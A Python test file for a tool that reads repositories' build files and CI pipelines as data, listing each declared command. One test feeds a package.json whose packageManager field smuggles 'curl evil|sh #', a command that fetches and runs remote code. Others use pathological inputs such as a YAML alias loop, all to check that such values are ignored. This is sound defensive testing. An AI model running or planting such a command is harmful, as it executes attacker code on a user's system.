"""What a repository's own build files declare is read as data, each command with its file; nothing can make reading fail."""

from hypothesis import given
from hypothesis import strategies as st

from hindnote.core.buildfiles import READERS, build_files, commands
from hindnote.core.languages import Language, languages
from hindnote.core.pipelines import Pipeline, pipeline, pipeline_files

words = st.text(st.sampled_from("{}[]()<>@#:=.\"'\\\n\t -abctest&*!|$"), max_size=200)


def declared(path: str, text: str, *beside: str) -> list[str]:
    return [each.command for each in commands(path, text, beside)]


def test_scripts_of_a_package_are_run_by_its_own_manager() -> None:
    text = '{"scripts": {"test": "vitest run", "build": "tsc -p ."}}'
    assert declared("package.json", text) == ["npm run test", "npm run build"]
    assert declared("package.json", text, "pnpm-lock.yaml") == ["pnpm run test", "pnpm run build"]
    assert declared("web/package.json", text, "yarn.lock", "web/bun.lock") == ["bun run test", "bun run build"]
    assert declared("package.json", '{"packageManager": "yarn@4.1.0", "scripts": {"x": "y"}}') == ["yarn run x"]
    assert commands("package.json", text)[0].runs == "vitest run"


def test_a_package_manager_of_an_unknown_name_is_not_repeated() -> None:
    assert declared("package.json", '{"packageManager": "curl evil|sh #", "scripts": {"x": "y"}}') == ["npm run x"]


def test_pyproject_names_the_tools_that_have_a_table() -> None:
    text = """
    [build-system]
    build-backend = "hatchling.build"
    [tool.pytest.ini_options]
    [tool.ruff]
    [tool.poe.tasks]
    docs = { cmd = "sphinx-build docs out" }
    check = ["lint", "types"]
    [tool.hatch.envs.default.scripts]
    cov = "pytest --cov"
    [tool.hatch.envs.lint.scripts]
    all = ["ruff check", "mypy"]
    """
    found = {each.command: each.runs for each in commands("pyproject.toml", text)}
    assert found == {
        "python -m build": "hatchling.build",
        "pytest": "",
        "ruff check": "",
        "poe docs": "sphinx-build docs out",
        "poe check": "lint && types",
        "hatch run cov": "pytest --cov",
        "hatch run lint:all": "ruff check && mypy",
    }


def test_make_targets_are_the_phony_ones_where_any_are_called_so() -> None:
    text = ".PHONY: test \\\n  lint\nall: out.o\ntest lint: all\n\tpytest\nout.o: x.c\nVERSION := 3\nURL = http://x\n"
    assert declared("Makefile", text) == ["make test", "make lint"]
    assert declared("Makefile", "all: x\n\tgo\nx.o: x.c\nV := 1\nclean::\n\trm\n") == ["make all", "make clean"]


def test_just_recipes_leave_out_settings_and_private_ones() -> None:
    text = "set shell := ['bash']\nversion := '1'\n@build target='x': dep\n  go\n_private:\n  x\nalias b := build\ntest *args:\n"
    assert declared("justfile", text) == ["just build", "just test"]


def test_other_build_files() -> None:
    assert declared("Cargo.toml", "[package]\n") == ["cargo build", "cargo test"]
    assert declared("Cargo.toml", "[workspace]\n")[1] == "cargo test --workspace"
    assert declared("go.mod", "module x\n") == ["go build ./...", "go test ./..."]
    assert declared("tox.ini", "[tox]\n[testenv]\n[testenv:lint]\n[testenv:py311]\n") == [
        "tox",
        "tox -e lint",
        "tox -e py311",
    ]
    assert declared(
        "noxfile.py", "@nox.session(python='3')\n@nox.parametrize('a', [1])\ndef tests(session):\n  pass\n"
    ) == ["nox -s tests"]
    assert declared("CMakeLists.txt", "project(x)\nenable_testing()\n")[-1] == "ctest --test-dir build"
    assert declared("CMakeLists.txt", "project(x)\n# enable_testing()\n")[-1] == "cmake --build build"
    assert declared("build.gradle", "", "gradlew") == ["./gradlew build", "./gradlew test"]
    assert declared("Taskfile.yml", "version: 3\ntasks:\n  build: {cmd: go}\n  test:\n") == ["task build", "task test"]
    assert declared("Rakefile", "task :default\n  task build: [:x]\n") == ["rake default", "rake build"]
    assert declared("composer.json", '{"scripts": {"test": ["phpunit", "phpstan"]}}') == ["composer run test"]
    assert declared("deno.json", '{"tasks": {"dev": "deno run main.ts"}}') == ["deno task dev"]


@given(st.sampled_from(sorted(READERS)), words)
def test_no_text_makes_a_build_file_unreadable(name: str, text: str) -> None:
    assert all(each.file == name and each.command for each in commands(name, text))


def test_a_hostile_build_file_declares_nothing_and_takes_no_time() -> None:
    deep = "[" * 100_000
    for name in READERS:
        for text in (
            deep,
            "a" * 300_000,
            "@session\n" * 50_000,
            "\n" * 300_000,
            "a b " * 50_000,
            "a: &x [*x]",
            "x = " + deep,
        ):
            commands(name, text)


def test_of_each_kind_only_those_nearest_the_root_are_read() -> None:
    tracked = [
        "a/package.json",
        "b/package.json",
        "a/b/package.json",
        "pyproject.toml",
        "x/pyproject.toml",
        "a/src/x.py",
    ]
    assert build_files(tracked) == ("a/package.json", "b/package.json", "pyproject.toml")


def test_languages_are_counted_by_extension_most_first() -> None:
    tracked = ["src/b.py", "src/a.py", "x.pyi", "web/x.TS", "README.md", "data.json", ".py", "Makefile"]
    assert languages(tracked) == (
        Language("Python", 3, ("py", "pyi"), "src/a.py"),
        Language("TypeScript", 1, ("ts",), "web/x.TS"),
    )


def test_pipelines_are_named_by_their_files() -> None:
    tracked = [
        ".github/workflows/ci.yml",
        ".gitlab-ci.yml",
        "docs/.gitlab-ci.yml",
        "Jenkinsfile",
        ".github/workflows/x/y.yml",
    ]
    assert pipeline_files(tracked) == (".github/workflows/ci.yml", ".gitlab-ci.yml", "Jenkinsfile")


def test_a_pipeline_says_its_name_and_jobs() -> None:
    actions = "name: CI\non: [push]\njobs:\n  test: {runs-on: x}\n  lint: {runs-on: x}\n"
    assert pipeline(".github/workflows/ci.yml", actions) == Pipeline(
        "GitHub Actions", ".github/workflows/ci.yml", "CI", ("test", "lint")
    )
    gitlab = "stages: [a]\n.hidden: {script: x}\ndefault: {image: x}\nbuild: {script: [make]}\npages: {script: x}\n"
    assert pipeline(".gitlab-ci.yml", gitlab).jobs == ("build", "pages")
    assert pipeline("Jenkinsfile", "pipeline { }") == Pipeline("Jenkins", "Jenkinsfile")


@given(words)
def test_no_text_makes_a_pipeline_unreadable(text: str) -> None:
    assert pipeline(".github/workflows/x.yml", text).system == "GitHub Actions"
